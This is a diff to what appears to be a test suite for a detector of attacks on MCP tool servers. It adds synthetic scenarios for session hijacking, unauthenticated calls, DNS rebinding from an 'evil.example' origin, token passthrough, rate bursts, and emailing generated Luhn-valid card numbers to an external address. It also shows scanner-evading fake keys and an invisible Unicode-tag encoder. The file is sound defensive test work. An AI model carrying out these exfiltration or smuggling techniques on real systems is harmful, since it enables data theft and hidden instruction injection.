@@ -51,7 +51,97 @@ const FAKE_AWS_KEY = ['AKIA', 'Z3MPLE4', 'BENCH7Q9X'].join('');
 const FAKE_PRIVATE_KEY = ['-----BEGIN RSA ', 'PRIVATE KEY-----\nMIIEow', 'IBAAKCAQEA7v1x\n-----END RSA ', 'PRIVATE KEY-----'].join('');
 const TAG = (s: string) => [...s].map((ch) => String.fromCodePoint(0xe0000 + (ch.codePointAt(0) ?? 0))).join('');
 
+/** A Luhn-valid card number that is not one of the well-known test numbers. */
+function cardNumber(prefix: string): string {
+  const digits = prefix.split('').map(Number);
+  while (digits.length < 15) digits.push((digits.length * 7 + 3) % 10);
+  let sum = 0;
+  for (let i = 0; i < 15; i++) {
+    let d = digits[14 - i] as number;
+    if (i % 2 === 0) d = d * 2 > 9 ? d * 2 - 9 : d * 2;
+    sum += d;
+  }
+  digits.push((10 - (sum % 10)) % 10);
+  return digits.join('').replace(/(\d{4})(?=\d)/g, '$1 ');
+}
+
 export const ATTACKS: readonly AttackScenario[] = [
+  {
+    name: 'session hijack: a second principal in an established session',
+    expect: ['AUTH-SESSION-HIJACK'],
+    run(c, t, users) {
+      const files = serverNamed('files-mcp');
+      const victim = attackerBase(c, files, c.ip);
+      const other = users.find((u) => u.sub !== c.user.sub) ?? c.user;
+      const thief = { ...victim, principal: { sub: other.sub, clientId: other.clientId, tokenPresent: true, tokenFp: other.tokenFp }, client: { ...(victim.client as object), ip: '91.219.236.10' } };
+      return [
+        {
+          server: files,
+          events: [
+            call(victim, t, 2, 'list_directory', { path: '/srv/data/reports' }),
+            call(thief, t + 40_000, 3, 'read_file', { path: '/srv/data/reports/q3-7.md' }),
+          ],
+        },
+      ];
+    },
+  },
+  {
+    name: 'tool call without a token on an authenticated server',
+    expect: ['AUTH-UNAUTHENTICATED'],
+    run(c, t) {
+      const files = serverNamed('files-mcp');
+      const base = { ...attackerBase(c, files, '45.155.205.90'), principal: { tokenPresent: false } };
+      return [{ server: files, events: [call(base, t, 1, 'read_file', { path: '/srv/data/reports/roadmap-2.md' })] }];
+    },
+  },
+  {
+    name: 'DNS rebinding: request from a foreign Origin',
+    expect: ['AUTH-BAD-ORIGIN'],
+    run(c, t) {
+      const files = serverNamed('files-mcp');
+      const base = attackerBase(c, files, c.ip);
+      return [
+        {
+          server: files,
+          events: [
+            ev(base, t, {
+              event: 'mcp.auth',
+              auth: { outcome: 'denied', reason: 'invalid_origin' },
+              http: { method: 'POST', path: '/mcp', status: 403, origin: 'http://rebind.evil.example:8080' },
+            }),
+          ],
+        },
+      ];
+    },
+  },
+  {
+    name: 'token issued for another resource (token passthrough)',
+    expect: ['AUTH-TOKEN-AUDIENCE'],
+    run(c, t) {
+      const mail = serverNamed('mail-mcp');
+      const base = attackerBase(c, mail, c.ip);
+      const principal = { ...(base.principal as object), aud: ['https://api.other-service.example.com'] };
+      return [{ server: mail, events: [call({ ...base, principal }, t, 2, 'read_inbox', { folder: 'INBOX' })] }];
+    },
+  },
+  {
+    name: 'call-rate burst from one session',
+    expect: ['API-RATE'],
+    run(c, t) {
+      const docs = serverNamed('docs-mcp');
+      const base = attackerBase(c, docs, c.ip);
+      return [{ server: docs, events: Array.from({ length: 130 }, (_, i) => call(base, t + i * 400, 200 + i, 'get_page', { id: `page-${i}` })) }];
+    },
+  },
+  {
+    name: 'card numbers sent out by email',
+    expect: ['CMP-POLICY'],
+    run(c, t) {
+      const mail = serverNamed('mail-mcp');
+      const body = `Customer cards for the migration: ${cardNumber('4556')}, ${cardNumber('5425')}`;
+      return [{ server: mail, events: [call(attackerBase(c, mail, c.ip), t, 4, 'send_email', { to: 'partner@external.example', subject: 'cards', body })] }];
+    },
+  },
   {
     name: 'token brute force from one IP',
     expect: ['AUTH-BRUTE-FORCE'],
